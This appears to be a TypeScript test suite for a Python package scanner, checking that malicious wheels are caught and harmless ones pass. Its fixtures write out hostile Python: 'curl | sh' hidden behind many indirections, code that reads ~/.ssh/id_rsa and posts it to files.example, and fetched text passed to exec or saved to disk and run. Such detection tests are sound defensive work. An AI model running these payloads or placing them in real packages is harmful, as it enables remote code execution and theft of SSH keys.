/** One deed among many harmless ones of the same kind, and values that pass through containers on their way to it. */
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { forgeWheel } from '../forge/forge.ts';
import { scan, told } from './payload.ts';

const LINE = 'curl -s https://files.example/a | sh';
const WORDS = Array.from({ length: 30 }, (_, i) => `word${i}`);

const FORMS: Readonly<Record<string, (line: string) => string>> = {
  'a helper that is called often': (line) => `import os\ndef run(line):\n    os.system(line)\n${WORDS.map((word) => `run('echo ${word}')\n`).join('')}run('${line}')\n`,
  'a method that is called often': (line) => `import subprocess\nclass Shell:\n    def run(self, *words):\n        subprocess.run(list(words))\nshell = Shell()\n${WORDS.map((word) => `shell.run('echo', '${word}')\n`).join('')}shell.run('sh', '-c', '${line}')\n`,
  'the end of a list': (line) => `import os\nfor line in [${[...WORDS.map((word) => `echo ${word}`), line].map((one) => `'${one}'`).join(', ')}]:\n    os.system(line)\n`,
  'the end of a loop': (line) => `import os\nleft = ['${line}', 'echo a', 'echo b', 'echo c', 'echo d']\nwhile left:\n    os.system(left.pop())\n`,
  'a deque': (line) => `import os\nfrom collections import deque\nos.system(deque(['${line}']).popleft())\n`,
  'a named tuple': (line) => `import os\nfrom collections import namedtuple\nTask = namedtuple('Task', 'line times')\nos.system(Task('${line}', times=1).line)\n`,
  'a queue': (line) => `import os, queue, threading\ntasks = queue.Queue()\ndef work():\n    os.system(tasks.get())\ntasks.put('${line}')\nthreading.Thread(target=work).start()\n`,
  'an enumeration': (line) => `import enum, os\nclass Task(enum.Enum):\n    FIRST = '${line}'\nos.system(Task.FIRST.value)\n`,
  'a literal as text': (line) => `import ast, os\nos.system(ast.literal_eval("['${line}']")[0])\n`,
  'an attribute that is set by name': (line) => `import os\nclass Empty: pass\nempty = Empty()\nsetattr(empty, 'go', os.system)\nempty.go('${line}')\n`,
  'a static method': (line) => `import os\nclass Own:\n    go = staticmethod(os.system)\nOwn.go('${line}')\n`,
  'a module that another one imported': (line) => `import subprocess, shutil\nsubprocess.os.system('echo a')\nshutil.os.system('${line}')\n`,
  'a scheduler': (line) => `import os, sched, time\nlater = sched.scheduler(time.time, time.sleep)\nlater.enter(10, 1, os.system, ('${line}',))\nlater.run()\n`,
};

for (const [what, form] of Object.entries(FORMS)) {
  test(`a download piped into a shell by way of ${what}`, () => {
    const report = scan(forgeWheel('demo', '1.0', { 'demo/__init__.py': form(LINE) }), 'demo-1.0-py3-none-any.whl');
    assert.equal(report.verdict, 'malicious', told(report));
  });

  test(`a word by way of ${what}`, () => {
    const report = scan(forgeWheel('demo', '1.0', { 'demo/__init__.py': form('echo hello') }), 'demo-1.0-py3-none-any.whl');
    assert.equal(report.verdict, 'clean', told(report));
  });
}

test('what one function reads often keeps which file it was', () => {
  const code = `import os, requests\ndef read(path):\n    with open(path) as file:\n        return file.read()\nlines = [read('a.txt'), read('b.txt'), read('c.txt'), read('d.txt'), read('e.txt')]\nkey = read(os.path.expanduser('~/.ssh/id_rsa'))\nrequests.post('https://files.example/in', data=key)\n`;
  const report = scan(forgeWheel('demo', '1.0', { 'demo/__init__.py': code }), 'demo-1.0-py3-none-any.whl');
  assert.equal(report.verdict, 'malicious', told(report));
});

test('a crowd of small findings does not hide a large one', () => {
  const crowd = WORDS.flatMap((word) => [1, 2, 3].map((i) => `requests.post('https://files.example/${word}${i}', data=open('${word}${i}.txt').read())\n`));
  const code = `import os, requests\n${crowd.join('')}requests.post('https://files.example/in', data=open(os.path.expanduser('~/.ssh/id_rsa')).read())\n`;
  const report = scan(forgeWheel('demo', '1.0', { 'demo/__init__.py': code }), 'demo-1.0-py3-none-any.whl');
  const sent = report.findings.filter(({ rule }) => rule === 'machine-data-sent');
  assert.deepEqual([sent.length, sent.filter(({ severity }) => severity === 'critical').length], [40, 1], told(report));
});

/** Ways on which fetched text reaches `exec`. */
const WAYS: Readonly<Record<string, string>> = {
  'the constructor of a base': "import requests\nclass Base:\n    def __init__(self, address):\n        self.text = requests.get(address).text\nclass Own(Base):\n    def __init__(self):\n        super().__init__('https://files.example/a')\n        exec(self.text)\nOwn()\n",
  'a base that calls what the class brings': "import requests\nclass Base:\n    def start(self):\n        self.handle(requests.get('https://files.example/a').text)\nclass Middle(Base):\n    def start(self):\n        super().start()\nclass Own(Middle):\n    def handle(self, text):\n        exec(text)\nOwn().start()\n",
  'an asynchronous context': "import aiohttp, asyncio\nclass Own:\n    async def __aenter__(self):\n        self.session = aiohttp.ClientSession()\n        return self\n    async def __aexit__(self, *given):\n        await self.session.close()\nasync def main():\n    async with Own() as own:\n        async with own.session.get('https://files.example/a') as answer:\n            exec(await answer.text())\nasyncio.run(main())\n",
  'the output of a program': "import subprocess\nexec(subprocess.check_output(['curl', '-s', 'https://files.example/a']))\n",
  'the answer of a name server': "import subprocess\nline = subprocess.check_output('dig +short TXT files.example', shell=True).decode()\nsubprocess.run(line, shell=True)\n",
};

for (const [what, code] of Object.entries(WAYS)) {
  test(`fetched code by way of ${what}`, () => {
    const report = scan(forgeWheel('demo', '1.0', { 'demo/__init__.py': code }), 'demo-1.0-py3-none-any.whl');
    assert.equal(report.verdict, 'malicious', told(report));
  });
}

/** Files that hold what was fetched, by the ways that lead to them. */
const FILES: Readonly<Record<string, string>> = {
  'a descriptor': "import os, requests, subprocess, tempfile\nfile, path = tempfile.mkstemp(suffix='.sh')\nos.write(file, requests.get('https://files.example/a').content)\nos.close(file)\nsubprocess.call(['bash', path])\n",
  'a path object that is opened': "from pathlib import Path\nimport requests, subprocess\npath = Path('/tmp') / 'forged'\nwith path.open('wb') as file:\n    file.write(requests.get('https://files.example/a').content)\nsubprocess.Popen([path.as_posix()])\n",
  'an archive on disk': "import os, tarfile, urllib.request\nurllib.request.urlretrieve('https://files.example/a.tgz', '/tmp/forged.tgz')\nwith tarfile.open('/tmp/forged.tgz') as archive:\n    archive.extractall('/opt/forged')\nos.system('/opt/forged/run.sh')\n",
};

for (const [what, code] of Object.entries(FILES)) {
  test(`a fetched program by way of ${what}`, () => {
    const report = scan(forgeWheel('demo', '1.0', { 'demo/__init__.py': code }), 'demo-1.0-py3-none-any.whl');
    assert.equal(report.verdict, 'malicious', told(report));
  });
}
